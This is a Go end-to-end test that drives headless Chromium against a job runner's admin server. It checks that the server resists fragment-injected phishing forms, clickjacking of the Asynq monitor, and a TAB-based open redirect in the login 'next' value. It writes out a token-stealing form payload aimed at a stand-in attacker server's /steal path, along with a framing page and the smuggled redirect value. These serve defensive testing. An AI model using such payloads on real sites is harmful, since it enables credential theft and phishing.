package e2e

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// attacker is another origin's web server: it serves the attack pages and
// records every request that reaches it.
type attacker struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
	page string // the HTML of GET /
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.hits = append(a.hits, r.Method+" "+r.URL.Path)
		body := a.page
		a.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, body)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attacker) seen() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.hits...)
}

// The browser attacks on a runner's admin server, in headless Chromium:
//   - the run page's #node= fragment cannot inject a form, and a form
//     posting to another host cannot be sent from the page at all;
//   - another origin cannot frame the Asynq UI (clickjacking);
//   - the login's next cannot send the browser to another host with a TAB.
func TestBrowserAttacksInChromium(t *testing.T) {
	t.Parallel()
	chromiumPath(t)
	c := newCluster(t)
	const token = "Zq8vN3xK7pL2mW9rT4yB6cD1"
	open := c.startRunner("ra", nil)
	guarded := c.startRunner("rb", map[string]string{"API_TOKEN": token})
	run := c.submit(`{"id":"phish-1","nodes":[{"id":"a","kind":"noop","queue":"nobody-serves-this"}]}`)
	evil := newAttacker(t)
	ctx := newBrowser(t, 90*time.Second)

	t.Run("node fragment", func(t *testing.T) {
		inject := `<form id="phish" action="` + evil.URL + `/steal" method="post"><input name="token" id="phish-token"></form>`
		require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("http://"+open.admin+"/runs/"+run+"#node="+url.PathEscape(inject))))
		text, err := chromedp.Run(ctx, chromedp.Poll[string](`document.querySelector('#detail') && document.querySelector('#detail').textContent.includes('Could not load node') && document.querySelector('#detail').textContent`,
			chromedp.WithPollingTimeout(20*time.Second)))
		require.NoError(t, err)
		assert.Contains(t, text, "<form", "the fragment shows as text")
		injected, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector('#phish, #phish-token') !== null`))
		require.NoError(t, err)
		assert.False(t, injected, "the fragment became markup")

		// Even a form built on the page cannot post to another host:
		// the content policy's form-action refuses it.
		violated, err := chromedp.Run(ctx, chromedp.Evaluate[string](`new Promise(done => {
			document.addEventListener('securitypolicyviolation', e => done(e.violatedDirective));
			const f = document.createElement('form');
			f.method = 'post'; f.action = '`+evil.URL+`/steal';
			const i = document.createElement('input'); i.name = 'token'; i.value = 'typed'; f.appendChild(i);
			document.body.appendChild(f); f.submit();
		})`, chromedp.EvalAwaitPromise))
		require.NoError(t, err, "the page navigated away: the form was sent")
		assert.Equal(t, "form-action", violated)
		// And innerHTML with a plain string is refused (Trusted Types).
		refused, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { try { document.body.innerHTML = '<b>x</b>'; return false } catch (e) { return e instanceof TypeError } })()`))
		require.NoError(t, err)
		assert.True(t, refused, "a string assigned to innerHTML became markup")
		assert.NotContains(t, evil.seen(), "POST /steal")
	})

	t.Run("framed monitor", func(t *testing.T) {
		target := "http://" + open.admin + "/monitor/"
		evil.mu.Lock()
		evil.page = `<!doctype html><p>Win a prize: click the button!</p><iframe id="victim" src="` + target +
			`" width="900" height="600" onload="window.framed = true"></iframe>`
		evil.mu.Unlock()
		require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(evil.URL+"/")))
		_, err := chromedp.Run(ctx, chromedp.Poll[bool](`window.framed === true`, chromedp.WithPollingTimeout(20*time.Second)))
		require.NoError(t, err)
		tree, err := chromedp.Run(ctx, func(ctx context.Context, tg *chromedp.Target) (page.GetFrameTreeResult, error) {
			return cdp.Call(ctx, tg, page.GetFrameTree, cdp.Empty{})
		})
		require.NoError(t, err)
		require.Len(t, tree.FrameTree.ChildFrames, 1)
		child := tree.FrameTree.ChildFrames[0].Frame
		t.Logf("child frame: url=%s unreachable=%s", child.URL, child.UnreachableURL)
		loaded := child.URL == target && child.UnreachableURL == ""
		targets, err := chromedp.Targets(ctx)
		require.NoError(t, err)
		for _, ti := range targets {
			if ti.Type == "iframe" && strings.HasPrefix(ti.URL, target) {
				loaded = true
			}
		}
		assert.False(t, loaded, "another origin framed the Asynq UI")
	})

	t.Run("login next with a TAB", func(t *testing.T) {
		next := "/\t/" + strings.TrimPrefix(evil.URL, "http://") + "/phished"
		require.NoError(t, chromedp.Do(ctx,
			chromedp.Navigate("http://"+guarded.admin+"/login?next="+url.QueryEscape(next)),
			chromedp.WaitVisible(chromedp.ID("token")),
			chromedp.SendKeys(chromedp.ID("token"), token),
			chromedp.Click(chromedp.ID("login-submit")),
		))
		// The page navigates twice (the post, then its redirect): ask
		// again while an evaluation meets a navigation.
		var loc string
		waitUntil(t, 20*time.Second, "the login to lead somewhere", func() bool {
			l, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.readyState === 'complete' && location.pathname !== '/login' ? location.href : ''`))
			loc = l
			return err == nil && l != ""
		})
		assert.True(t, strings.HasPrefix(loc, "http://"+guarded.admin+"/"), "the login led to %s", loc)
		assert.NotContains(t, evil.seen(), "GET /phished")
	})
}
